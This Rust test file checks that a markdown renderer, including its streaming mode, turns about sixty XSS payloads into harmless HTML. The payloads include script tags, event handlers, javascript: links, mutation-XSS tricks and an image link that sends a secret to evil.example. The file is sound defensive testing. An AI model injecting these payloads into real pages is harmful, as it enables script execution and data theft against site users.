use std::collections::BTreeSet;

use crate::markdown::{StreamRenderer, plain, render};

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "text <img src=x onerror=alert(1)> text",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<div style=\"position:fixed;inset:0\" onclick=alert(1)>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "[x](/api/v1/keys)",
    "[x](//evil.example)",
    "[x](https://a.example\" onclick=\"alert(1))",
    "[x](<https://a.example\" onclick=\"alert(1)>)",
    "[x](https://a.example 'y\" onmouseover=\"alert(1)')",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: https://a.example/\"onclick=alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/steal?q=secret)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://a.example/i.png)",
    "![<script>alert(1)</script>](https://a.example/i.png)",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```x\" onclick=\"alert(1)\ncode\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "~~~ language-x autofocus onfocus=alert(1)\ncode\n~~~",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<br onclick=alert(1)>",
    "<br/onclick=alert(1)//>",
    "- <details open ontoggle=alert(1)>",
    "> <input autofocus onfocus=alert(1)>",
    "# <object data=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{0}<scr\u{0}ipt>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<a name=body><a id=forms><form id=getElementById>",
    "{{constructor.constructor('alert(1)')()}}",
    "\u{202e}<script>alert(1)</script>",
];

/// Every start tag in the output, as the browser would see it.
fn start_tags(html: &str) -> Vec<&str> {
    html.match_indices('<')
        .filter(|(at, _)| html[at + 1..].starts_with(|next: char| next.is_ascii_alphabetic()))
        .map(|(at, _)| &html[at..=at + html[at..].find('>').expect("a tag is closed")])
        .collect()
}

fn assert_harmless(html: &str, attack: &str) {
    let elements = BTreeSet::from([
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "div",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "span",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ]);
    for tag in start_tags(html) {
        let inner = tag.trim_matches(['<', '>']);
        let name = inner.split(' ').next().unwrap_or_default();
        assert!(elements.contains(name), "{attack:?} made {tag}");
        for attribute in inner
            .split("\" ")
            .filter_map(|part| part.split_once('='))
            .map(|(key, _)| key.rsplit(' ').next().unwrap_or_default())
        {
            assert!(
                ["class", "dir", "href", "rel", "scope", "start", "tabindex", "target"]
                    .contains(&attribute),
                "{attack:?} made the attribute {attribute} in {tag}"
            );
        }
        if let Some((_, href)) = tag.split_once("href=\"") {
            assert!(
                ["http://", "https://", "mailto:"].iter().any(|scheme| href.starts_with(scheme)),
                "{attack:?} made {tag}"
            );
        }
    }
}

#[test]
fn no_attack_becomes_an_element_an_attribute_or_a_link_that_acts() {
    for attack in ATTACKS {
        assert_harmless(&render(attack), attack);
        assert_harmless(&plain(attack), attack);
    }
}

#[test]
fn no_attack_acts_when_it_arrives_in_two_pieces_between_other_blocks() {
    for attack in ATTACKS {
        let text = format!("before\n\n{attack}\n\nafter\n\n- end\n");
        for (at, _) in text.char_indices() {
            let mut renderer = StreamRenderer::new();
            let mut html = renderer.push(&text[..at]).concat();
            assert_harmless(&renderer.tail(), attack);
            html.push_str(&renderer.push(&text[at..]).concat());
            html.push_str(&renderer.tail());
            assert_harmless(&html, attack);
        }
    }
}

#[test]
fn endless_nesting_is_rendered_flat_instead_of_overflowing_the_stack() {
    for unit in [">", "> ", "- ", "* ", "1. ", "[", "![", "*a ", "_a ", "**a ", "`", "<div>", "<b>"]
    {
        let html = render(&unit.repeat(20_000));
        assert_harmless(&html, unit);
    }
}

#[test]
fn unbalanced_markup_of_every_kind_stays_balanced_in_the_output() {
    let html = render("**a _b ~~c [d](https://e.example \n\n> q\n- l\n```\ncode");
    for name in ["p", "blockquote", "ul", "li", "pre", "code", "div"] {
        let opened =
            html.matches(&format!("<{name}>")).count() + html.matches(&format!("<{name} ")).count();
        assert_eq!(opened, html.matches(&format!("</{name}>")).count(), "{name} in {html}");
    }
}
